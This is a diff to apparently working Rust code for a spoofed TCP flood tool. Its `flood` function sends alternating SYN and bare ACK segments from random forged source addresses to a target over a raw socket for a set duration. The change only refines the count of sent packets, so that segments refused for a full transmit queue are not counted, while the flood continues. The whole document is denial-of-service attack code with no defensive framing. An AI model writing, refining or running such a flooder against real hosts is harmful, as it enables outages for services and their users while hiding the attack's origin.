@@ -19,7 +19,8 @@ const TCP_SYN: u8 = 0x02;
 const TCP_ACK: u8 = 0x10;
 
 /// Sends spoofed segments to `target` for `duration`, alternating SYNs and
-/// bare ACKs, from random addresses of `sources`. Returns how many were sent.
+/// bare ACKs, from random addresses of `sources`. Returns how many left
+/// (those refused for a full transmit queue are not counted).
 pub fn flood(target: SocketAddrV4, sources: Ipv4Network, duration: Duration) -> io::Result<u64> {
     let socket = RawSocket::open()?;
     let mut rng = rand::rng();
@@ -41,8 +42,9 @@ pub fn flood(target: SocketAddrV4, sources: Ipv4Network, duration: Duration) -> 
                 ack: if flags == TCP_ACK { rng.random() } else { 0 },
                 flags,
             };
-            socket.send(&segment.packet(), target)?;
-            sent += 1;
+            if socket.send(&segment.packet(), target)? {
+                sent += 1;
+            }
         }
     }
     Ok(sent)
@@ -113,7 +115,8 @@ impl RawSocket {
         Ok(Self(fd))
     }
 
-    fn send(&self, packet: &[u8], target: SocketAddrV4) -> io::Result<()> {
+    /// Sends `packet`; false when the transmit queue was full.
+    fn send(&self, packet: &[u8], target: SocketAddrV4) -> io::Result<bool> {
         let address = libc::sockaddr_in {
             sin_family: libc::AF_INET as libc::sa_family_t,
             sin_port: 0,
@@ -138,11 +141,11 @@ impl RawSocket {
             let err = io::Error::last_os_error();
             // A full transmit queue: the flood goes on.
             if err.raw_os_error() == Some(libc::ENOBUFS) {
-                return Ok(());
+                return Ok(false);
             }
             return Err(err);
         }
-        Ok(())
+        Ok(true)
     }
 }
 
